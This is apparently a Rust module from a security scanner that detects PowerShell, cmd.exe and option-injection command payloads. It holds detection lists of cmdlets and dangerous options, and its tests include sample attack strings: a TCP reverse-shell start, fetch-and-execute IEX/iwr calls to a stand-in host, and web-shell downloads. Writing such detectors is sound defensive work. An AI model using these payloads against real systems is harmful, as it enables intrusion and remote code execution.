//! The command injection shapes beyond a POSIX shell's command line: PowerShell
//! cmdlets and .NET calls, cmd.exe's variable tricks, and option injection into a
//! program the application runs with the value as an argument.
//!
//! - **PowerShell**: after backticks between letters are dropped (`S`tart-S`leep`), a
//!   cmdlet that runs, reads or reaches out (`Get-Process`, `Start-Sleep`,
//!   `Resolve-DnsName`, `Invoke-WebRequest`, `New-Object`, ...: [`CMDLETS`]) in a
//!   command position (after `;`, `|`, `&`, `(`, `{` or a line break, with spaces
//!   or tabs between; in text only `;`, `|`, `&`, `(` and `{` within the first 64
//!   bytes), or as the value's first word followed by a parameter (`-Name`), `|`,
//!   `(`, `$` or a quote, or alone when its name holds a `-`; a .NET type call
//!   anywhere (`[Diagnostics.Process]::Start(`, `[Net.WebClient]`,
//!   `[Convert]::FromBase64String(`).
//! - **cmd.exe**: `call %name%` (a command stored in a variable by `set name=...`),
//!   `%ComSpec%` as a command.
//! - **A command built from variables**: `$a$b` in a command position
//!   (`a=who;b=ami;$a$b`).
//! - **Option injection**: an option that makes a program run a command or write a
//!   file, at the start of the value or after white space or a quote: tar's
//!   `--to-command=`, `--checkpoint-action=`, `--use-compress-program=`, git's
//!   `--upload-pack=`, `--receive-pack=`, ssh's `-oProxyCommand=` (or `-o
//!   ProxyCommand=`), sendmail's `-OQueueDirectory=` and `-X/path` (capital `X`),
//!   find's `-exec ` with `\;` or `+` within the next 128 bytes, rsync's `--rsh=`,
//!   zip's `--unzip-command=`; and a downloader's output option (`-o`, `-O`,
//!   `--output`, `--output-document`) naming a file a web server runs (`.php`,
//!   `.jsp`, `.aspx`, `.sh`, ...) in a value that holds a URL.
//!
//! Linear: one pass to drop backticks, one automaton search, and bounded look-ahead
//! at each match.

use crate::text::{Words, is_space};
use std::sync::LazyLock;

/// PowerShell cmdlets (and their usual aliases) that run, read, sleep or reach out.
pub(super) const CMDLETS: &[&str] = &[
    "get-process",
    "get-childitem",
    "get-content",
    "get-localuser",
    "get-localgroup",
    "get-localgroupmember",
    "get-service",
    "get-wmiobject",
    "get-ciminstance",
    "get-itemproperty",
    "get-acl",
    "get-computerinfo",
    "get-nettcpconnection",
    "get-netipaddress",
    "get-aduser",
    "get-clipboard",
    "get-credential",
    "get-hotfix",
    "get-executionpolicy",
    "start-process",
    "start-sleep",
    "start-job",
    "start-bitstransfer",
    "stop-process",
    "stop-service",
    "invoke-expression",
    "invoke-webrequest",
    "invoke-restmethod",
    "invoke-command",
    "invoke-wmimethod",
    "invoke-item",
    "resolve-dnsname",
    "test-connection",
    "test-netconnection",
    "new-object",
    "new-item",
    "new-localuser",
    "new-service",
    "set-content",
    "add-content",
    "out-file",
    "remove-item",
    "copy-item",
    "set-executionpolicy",
    "set-mppreference",
    "add-mppreference",
    "add-localgroupmember",
    "import-module",
    "register-scheduledtask",
    "iex",
    "iwr",
    "irm",
];

/// .NET calls PowerShell payloads make.
const DOTNET: &[&str] = &[
    "[diagnostics.process]::start(",
    "[system.diagnostics.process]::start(",
    "[net.webclient]",
    "[system.net.webclient]",
    "[convert]::frombase64string(",
    "[system.convert]::frombase64string(",
    "[reflection.assembly]::load",
    "[system.reflection.assembly]::load",
    "[activator]::createinstance(",
    "net.sockets.tcpclient(",
    "[io.file]::writeallbytes(",
];

/// Options that make a program run a command or write where it should not.
pub(super) const OPTIONS: &[&str] = &[
    "--to-command=",
    "--checkpoint-action=",
    "--use-compress-program=",
    "--upload-pack=",
    "--receive-pack=",
    "--rsh=",
    "--unzip-command=",
    "-oproxycommand=",
    "-o proxycommand=",
    "-oqueuedirectory=",
    "-x/",
    "-exec ",
];

/// The words [`scan`] starts from, for the candidates pass.
pub(super) fn words() -> impl Iterator<Item = &'static str> {
    CMDLETS.iter().chain(DOTNET).chain(OPTIONS).copied().chain([
        "call %",
        "%comspec%",
        "$",
        "-o ",
        "--output",
    ])
}

/// A finding of one of the shapes above: its rule and where it starts.
/// `prose`: the value reads like text (see the parent module): there, only the
/// first [`super::TEXT_START`] bytes hold command positions, and a line break is not
/// one (a forum post quoting a PowerShell session is not an injection).
pub(super) fn scan(s: &[u8], prose: bool) -> Option<(&'static str, usize)> {
    if let Some(at) = option_injection(s) {
        return Some(("option that runs a command", at));
    }
    if let Some(at) = download_to_script(s) {
        return Some(("download written to a script file", at));
    }
    // Backticks between letters are PowerShell's escape: `S`tart-S`leep`.
    let plain: Vec<u8>;
    let t = if s.contains(&b'`') {
        plain = s
            .iter()
            .enumerate()
            .filter(|&(i, &c)| {
                !(c == b'`'
                    && i > 0
                    && s[i - 1].is_ascii_alphanumeric()
                    && s.get(i + 1)
                        .is_some_and(|n| n.is_ascii_alphanumeric() || *n == b'-'))
            })
            .map(|(_, &c)| c)
            .collect();
        &plain[..]
    } else {
        s
    };
    static DOTNET_WORDS: LazyLock<Words> = LazyLock::new(|| Words::new(DOTNET));
    if let Some((_, at, _)) = DOTNET_WORDS.find_all(t).next() {
        return Some(("PowerShell .NET call", at));
    }
    static CMDLET_WORDS: LazyLock<Words> = LazyLock::new(|| Words::new(CMDLETS));
    for (_, at, end) in CMDLET_WORDS.find_all(t) {
        // The whole name: `iex` is not `iexplore`, `get-process` not `get-processes`.
        if t.get(end)
            .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'-')
        {
            continue;
        }
        if command_position(t, at, prose) {
            return Some(("PowerShell cmdlet", at));
        }
        if first_word(t, at) {
            let k = crate::text::skip_space(t, end);
            let shaped = matches!(t.get(k), Some(b'|' | b'(' | b'$' | b'\'' | b'"'))
                || (t.get(k) == Some(&b'-') && t.get(k + 1).is_some_and(u8::is_ascii_alphabetic));
            if shaped || k == t.len() && t[at..end].contains(&b'-') {
                return Some(("PowerShell cmdlet", at));
            }
        }
    }
    if let Some(at) = cmd_variable(t, prose) {
        return Some(("command stored in a variable", at));
    }
    if let Some(at) = variables_as_command(t, prose) {
        return Some(("command built from variables", at));
    }
    None
}

/// Whether `at` follows a separator (`;`, `|`, `&`, `(`, `{`, a line break), with
/// spaces or tabs between; in prose, only `;`, `|`, `&`, `(` and `{` within the
/// first bytes.
fn command_position(s: &[u8], at: usize, prose: bool) -> bool {
    let mut k = at;
    while k > 0 && matches!(s[k - 1], b' ' | b'\t') {
        k -= 1;
    }
    if prose && k > super::TEXT_START {
        return false;
    }
    k > 0
        && (matches!(s[k - 1], b';' | b'|' | b'&' | b'(' | b'{')
            || (!prose && matches!(s[k - 1], b'\n' | b'\r')))
}

/// Whether only white space and quotes come before `at`.
fn first_word(s: &[u8], at: usize) -> bool {
    s[..at]
        .iter()
        .all(|c| is_space(*c) || matches!(c, b'\'' | b'"'))
}

/// An option of [`OPTIONS`] at the start of the value or after white space or a
/// quote.
fn option_injection(s: &[u8]) -> Option<usize> {
    static OPTION_WORDS: LazyLock<Words> = LazyLock::new(|| Words::new(OPTIONS));
    OPTION_WORDS.find_all(s).find_map(|(w, at, end)| {
        if at > 0 && !is_space(s[at - 1]) && !matches!(s[at - 1], b'\'' | b'"') {
            return None;
        }
        match OPTIONS[w] {
            // sendmail's `-X/path` (a log file), with another option or a path.
            "-x/" => (end < s.len() && s[at + 1] == b'X').then_some(at),
            // find's `-exec CMD \;` or `+`.
            "-exec " => {
                let tail = &s[end..(end + 128).min(s.len())];
                (memchr::memmem::find(tail, b"\\;").is_some() || tail.contains(&b'+')).then_some(at)
            }
            _ => Some(at),
        }
    })
}

/// Extensions of files a web server runs.
const SCRIPT_EXTENSIONS: &[&[u8]] = &[
    b".php", b".phtml", b".phar", b".jsp", b".jspx", b".asp", b".aspx", b".cgi", b".pl", b".py",
    b".sh",
];

/// A downloader's output option (curl's `-o`/`--output`, wget's `-O`/
/// `--output-document`) at the start of the value or after white space, naming a
/// file a web server runs, with a URL in the value: `-o /var/www/html/x.php
/// http://host/x.txt` writes a web shell.
fn download_to_script(s: &[u8]) -> Option<usize> {
    memchr::memmem::find(s, b"://")?;
    let mut from = 0;
    while let Some(rel) = memchr::memchr(b'-', &s[from..]) {
        let at = from + rel;
        from = at + 1;
        if at > 0 && !is_space(s[at - 1]) {
            continue;
        }
        let opt_len = [&b"--output-document"[..], b"--output", b"-o", b"-O"]
            .iter()
            .find(|o| s[at..].starts_with(o))
            .map(|o| o.len());
        let Some(n) = opt_len else { continue };
        let k = at + n;
        if !matches!(s.get(k), Some(b' ' | b'=')) {
            continue;
        }
        let k = k + 1;
        let path_len = s[k..]
            .iter()
            .take(256)
            .take_while(|c| !is_space(**c) && !matches!(c, b'\'' | b'"'))
            .count();
        let path = s[k..k + path_len].to_ascii_lowercase();
        if SCRIPT_EXTENSIONS.iter().any(|e| path.ends_with(e)) {
            return Some(at);
        }
    }
    None
}

/// `call %name%` (cmd.exe runs the command a `set name=...` stored), or `%ComSpec%`
/// as a command.
fn cmd_variable(s: &[u8], prose: bool) -> Option<usize> {
    let mut from = 0;
    while let Some(at) = crate::text::find_ci(s, from, b"call %") {
        from = at + 1;
        let name = &s[at + 6..];
        let n = name
            .iter()
            .take(32)
            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
            .count();
        if n > 0 && name.get(n) == Some(&b'%') && command_position(s, at, prose) {
            return Some(at);
        }
    }
    let at = crate::text::find_ci(s, 0, b"%comspec%")?;
    (at == 0 || command_position(s, at, prose)).then_some(at)
}

/// `$a$b` in a command position: a command name put together from variables.
fn variables_as_command(s: &[u8], prose: bool) -> Option<usize> {
    let mut from = 0;
    while let Some(rel) = memchr::memchr(b'$', &s[from..]) {
        let at = from + rel;
        from = at + 1;
        if !command_position(s, at, prose) {
            continue;
        }
        let n = s[at + 1..]
            .iter()
            .take(32)
            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
            .count();
        if n > 0 && s.get(at + 1 + n) == Some(&b'$') {
            let m = s[at + 2 + n..]
                .iter()
                .take(32)
                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                .count();
            if m > 0 {
                return Some(at);
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shapes() {
        for s in [
            "; Get-Process",
            "127.0.0.1'; Get-LocalUser;'",
            "x|S`tart-S`l`eep -s 28 #",
            "Start-Sleep -s 5",
            "127.0.0.1\";$c=New-Object Net.Sockets.TCPClient('10.0.0.1',9001)",
            "127.0.0.1&&[Diagnostics.Process]::Start('calc.exe')",
            "| I`EX(iwr -UseBasicParsing http://x.example/a)",
            "&set tr=whoami /priv&&call %tr%",
            "&%ComSpec% /c whoami",
            "|& ta=una;kax=me;$ta$kax -a",
            "--checkpoint=1 --checkpoint-action=exec=id",
            "--to-command=ps aux",
            "-X/var/www/html/a.php -OQueueDirectory=/tmp",
            "x -oProxyCommand=sleep 7",
            "--upload-pack=env",
            "a.example.com|| find . -maxdepth 0 -exec id \\; #",
            "-o /var/www/html/a.php http://x.example/a.txt",
            "http://x.example/s.txt --output-document=shell.jsp",
        ] {
            assert!(scan(s.as_bytes(), false).is_some(), "missed: {s}");
        }
        for s in [
            "Get-Started guide",
            "see the get-process docs for details",
            "We had fun; get-together was great",
            "Use -x/--verbose for details",
            "call %PATH% later",
            "price: $5 and $10",
            "The --checkpoint flag of tar",
            "iexplore.exe",
            "curl -o out.json https://api.example.com/v1/items",
            "Run it with -o report.pdf",
        ] {
            assert!(
                scan(s.as_bytes(), false).is_none(),
                "false positive: {s}: {:?}",
                scan(s.as_bytes(), false)
            );
        }
    }
}
